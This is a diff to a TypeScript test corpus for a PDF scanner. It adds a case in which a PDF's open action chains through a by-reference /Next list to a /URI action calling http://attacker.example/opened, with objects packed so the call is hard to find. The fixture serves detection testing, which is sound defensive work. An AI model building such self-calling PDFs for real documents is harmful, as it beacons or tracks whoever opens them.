@@ -739,6 +739,19 @@ const huntedPdfs: CorpusItem[] = [
   hunted('pdf-table-row-spoiled-hidden-catalog', 'PDF_UNREADABLE', spoiledRowPdf),
   // A hybrid file's table lists the catalog free, its /XRefStm packs it: pdf.js reads the free entry and rebuilds.
   hunted('pdf-hybrid-free-catalog-hidden-catalog', 'PDF_UNREADABLE', hybridFreeCatalogPdf),
+  // An opening /GoTo whose /Next is a list of actions by reference: the list's second one calls out.
+  hunted('pdf-openaction-next-list-by-reference', 'PDF_ACTION', () =>
+    buildPdf(
+      [
+        ...pageObjects('/OpenAction 6 0 R'),
+        { num: 6, body: '<< /S /GoTo /D [3 0 R /Fit] /Next 7 0 R >>' },
+        { num: 7, body: '[8 0 R 9 0 R]' },
+        { num: 8, body: '<< /S /GoTo /D [3 0 R /FitH 0] >>' },
+        { num: 9, body: '<< /S /URI /URI (http://attacker.example/opened) >>' },
+      ],
+      { packed: [6, 7, 9] },
+    ),
+  ),
 ];
 
 /** PDFs whose structure cannot be read whole. */
